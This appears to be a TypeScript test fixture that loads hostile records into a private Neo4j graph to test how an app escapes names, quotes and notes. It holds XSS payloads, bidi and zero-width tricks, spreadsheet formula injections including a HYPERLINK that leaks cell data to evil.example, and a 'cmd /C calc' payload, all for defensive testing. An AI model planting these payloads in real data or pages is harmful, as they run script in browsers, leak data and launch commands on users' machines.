// Hostile content for the hardening tests: names, quotes, notes and a document symbol that
// carry markup, script, bidi overrides, zero-width characters, spreadsheet formulas and a
// 100 kB name. They are typed domain records written with the loader the seed uses, hung
// off seed entities so they appear in lineages and in whyExists, without a causal cycle: a
// resolution of the ninth session creates the bodies, whose report goes to the tenth. They go into a Neo4j of
// the test's own: the shared test instance is counted by other tests.
import {
  relationId,
  type BodyRecord,
  type DocumentRecord,
  type EntityRecord,
  type EvidenceRecord,
  type MandateRecord,
  type MeetingRecord,
  type RelationRecord,
  type RelationType,
} from '../../server/src/domain/model.js';
import { ensureSeed, writeGraph } from '../../server/src/seed/load.js';
import { startPrivateNeo4j, type PrivateNeo4j } from './private-neo4j.js';

export const RLO = '\u202E'; // RIGHT-TO-LEFT OVERRIDE, deliberately never closed
export const RLM = '\u200F'; // RIGHT-TO-LEFT MARK
// POP DIRECTIONAL ISOLATE and POP DIRECTIONAL FORMATTING with nothing to pop: they must not
// close an isolation the page puts around the name.
const STRAY_POPS = '\u2069\u202C';
const ZWSP = '\u200B';
const ZWJ = '\u200D';
const ZWNBSP = '\uFEFF'; // also the byte order mark

/** What any of the payloads sets if it ever runs. */
export const PWNED = '__pwned';

export const SEED_NOTE = 'document/2020-07-01-CTOC-COP-2020-1-items-2-4-5';
const LONG_RUN = 100_000;

export const IDS = {
  mandate: 'resolution/9/9',
  markup: 'body/hostile-markup',
  bidi: 'body/hostile-bidi',
  long: 'body/hostile-long',
  meeting: 'meeting/hostile-markup/1',
  // A document is identified by its symbol, so the hostile symbol is an id too.
  document: 'CTOC/COP/WG.66/2021/"&<script>alert(1)</script>',
} as const;

export const TEXT = {
  mandateEn: `Resolution 9/9 ${RLO}<script>window.${PWNED}=1;alert("mandate")</script>`,
  mandateRu: 'Резолюция 9/9 «&amp; &lt;b&gt;не жирный&lt;/b&gt;&nbsp;»',
  subjectEn: '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
  subjectRu: '<b onmouseover="alert(1)">предмет</b>',
  markupEn: `<img src=x onerror="window.${PWNED}=1;alert('img')"> Zebracorn Working Group`,
  markupRu: `<script>window.${PWNED}=1</script> Рабочая группа Зебракорн`,
  markupAliasesEn: ['<svg/onload=alert(1)>', '"><iframe src="javascript:alert(1)"></iframe>'],
  markupAliasesRu: ['&amp;lt;script&amp;gt;'],
  bidiEn: `+Bidicorn ${STRAY_POPS}${RLO}exe.gnp${RLM} group`,
  bidiRu: `Би${ZWSP}ди${ZWJ}корн${ZWNBSP} группа`,
  longEn: `Longcorn ${'W'.repeat(LONG_RUN)}`,
  longRu: `\tДлинная группа ${'Ж'.repeat(LONG_RUN / 2)}`,
  meetingEn: '1st meeting of the <img src=x onerror=alert(1)> Zebracorn Working Group',
  meetingRu: '-1+1 совещание Зебракорн',
  meetingPlace: `<iframe srcdoc="<script>parent.${PWNED}=1</script>"></iframe>`,
  documentEn: '=HYPERLINK("http://evil.example/?x="&A1,"Open") Zebracorn report',
  documentRu: "@SUM(1+1)*cmd|' /C calc'!A0 доклад Зебракорн",
  printedSymbol: 'СТОС/СОР/WG.66/2021/]]><!--',
  governsAction: '@made "constant" <b>element</b> & more',
  adoptedNote: `<img src=x onerror="alert('note')"> derived from the numbering 9/9`,
  concernsNote: `concerns ${RLO}noitnevnoC eht`,
  quotes: {
    closing: `</quote><script>window.${PWNED}=1</script> the Conference established the Zebracorn group`,
    cdata: `"]]><![CDATA[<script>alert(1)</script>]]> & &amp; &lt;b&gt; ' " \\ end`,
    hyperlink: '=HYPERLINK("http://evil.example","x")',
    sum: `@SUM(1+1)*cmd|' /C calc'!A0 ${RLO}the group shall meet${RLM} annually`,
    lines: '+1 and -1\nsecond line "quoted", with a comma\r\nthird line',
    minus: '-2+3 the Longcorn group is established',
    tab: `\tTabbed start <script>alert(1)</script>`,
    cr: `\rCR start ${ZWSP}${ZWJ}${ZWNBSP} zero-width`,
    apostrophe: "'=1+1 an apostrophe, then a formula",
  },
} as const;

const names = (en: string, ru: string, aliasesEn: string[] = [], aliasesRu: string[] = []) => ({
  nameEn: en,
  nameRu: ru,
  aliasesEn,
  aliasesRu,
});

const ev = (
  quote: string,
  paragraph: number | null,
  document: string = IDS.document,
): EvidenceRecord => ({
  document,
  paragraph,
  context: paragraph === null ? 'HEADER' : 'PARAGRAPH',
  quote,
  lang: 'en',
});

function rel(
  type: RelationType,
  fromId: string,
  toId: string,
  more: Partial<Pick<RelationRecord, 'action' | 'basisId' | 'note' | 'source' | 'evidence'>>,
): RelationRecord {
  const action = more.action ?? null;
  return {
    id: relationId(type, fromId, toId, action),
    type,
    fromId,
    toId,
    action,
    basisId: more.basisId ?? null,
    source: more.source ?? 'DOCUMENT',
    note: more.note ?? null,
    evidence: more.evidence ?? [],
  };
}

const mandate: MandateRecord = {
  id: IDS.mandate,
  kind: 'MANDATE',
  ...names(TEXT.mandateEn, TEXT.mandateRu),
  provenance: [{ fields: ['subject'], source: 'DOCUMENT', evidence: ev(TEXT.quotes.closing, 1) }],
  type: 'RESOLUTION',
  number: '9/9',
  sessionId: 'session/9',
  subjectEn: TEXT.subjectEn,
  subjectRu: TEXT.subjectRu,
};
const body = (id: string, en: string, ru: string, aliasesEn?: string[], aliasesRu?: string[]) =>
  ({
    id,
    kind: 'BODY',
    ...names(en, ru, aliasesEn, aliasesRu),
    provenance: [{ fields: ['name.en'], source: 'REFERENCE', note: TEXT.adoptedNote }],
    type: 'WORKING_GROUP',
  }) satisfies BodyRecord;
const meeting: MeetingRecord = {
  id: IDS.meeting,
  kind: 'MEETING',
  ...names(TEXT.meetingEn, TEXT.meetingRu),
  provenance: [],
  bodyId: IDS.markup,
  ordinal: 1,
  startDate: '2021-05-03',
  endDate: '2021-05-05',
  place: TEXT.meetingPlace,
  status: 'HELD',
  statusAsOf: '2021-06-01',
};
const report: DocumentRecord = {
  id: IDS.document,
  kind: 'DOCUMENT',
  ...names(TEXT.documentEn, TEXT.documentRu),
  provenance: [],
  type: 'REPORT',
  symbol: IDS.document,
  printedSymbol: TEXT.printedSymbol,
  year: 2021,
  date: null,
  lang: 'en',
};

export const ENTITIES: EntityRecord[] = [
  mandate,
  body(
    IDS.markup,
    TEXT.markupEn,
    TEXT.markupRu,
    [...TEXT.markupAliasesEn],
    [...TEXT.markupAliasesRu],
  ),
  body(IDS.bidi, TEXT.bidiEn, TEXT.bidiRu),
  body(IDS.long, TEXT.longEn, TEXT.longRu),
  meeting,
  report,
];

const Q = TEXT.quotes;
export const RELATIONS: RelationRecord[] = [
  rel('ADOPTED_AT', IDS.mandate, 'session/9', { source: 'DERIVED', note: TEXT.adoptedNote }),
  rel('CONCERNS', IDS.mandate, 'instrument/untoc', {
    source: 'REFERENCE',
    note: TEXT.concernsNote,
  }),
  rel('CREATES', IDS.mandate, IDS.markup, {
    action: 'established',
    evidence: [ev(Q.closing, 1), ev(Q.cdata, 2), ev(Q.hyperlink, null, SEED_NOTE)],
  }),
  rel('GOVERNS', IDS.mandate, IDS.bidi, {
    action: TEXT.governsAction,
    evidence: [ev(Q.sum, 3), ev(Q.lines, 4)],
  }),
  rel('CREATES', IDS.mandate, IDS.long, { action: 'established', evidence: [ev(Q.minus, 5)] }),
  rel('HOLDS', IDS.markup, IDS.meeting, { evidence: [ev(Q.tab, 6)] }),
  rel('PRODUCES', IDS.meeting, IDS.document, { evidence: [ev(Q.cr, 7)] }),
  rel('SUBMITTED_TO', IDS.document, 'session/10', {
    basisId: IDS.mandate,
    evidence: [ev(Q.apostrophe, null, SEED_NOTE)],
  }),
];

export function entityById(id: string): EntityRecord {
  const e = ENTITIES.find((x) => x.id === id);
  if (!e) throw new Error(`no hostile entity ${id}`);
  return e;
}
export function relationById(id: string): RelationRecord {
  const r = RELATIONS.find((x) => x.id === id);
  if (!r) throw new Error(`no hostile relation ${id}`);
  return r;
}

export type HostileGraph = PrivateNeo4j;

/** A private Neo4j with the seed graph plus the hostile records. */
export async function startHostileGraph(): Promise<HostileGraph> {
  const neo4j = await startPrivateNeo4j('hostile');
  try {
    await ensureSeed(neo4j.db, () => {});
    await writeGraph(neo4j.db, [{ entities: ENTITIES, relations: RELATIONS, curated: false }]);
  } catch (err) {
    await neo4j.stop();
    throw err;
  }
  return neo4j;
}
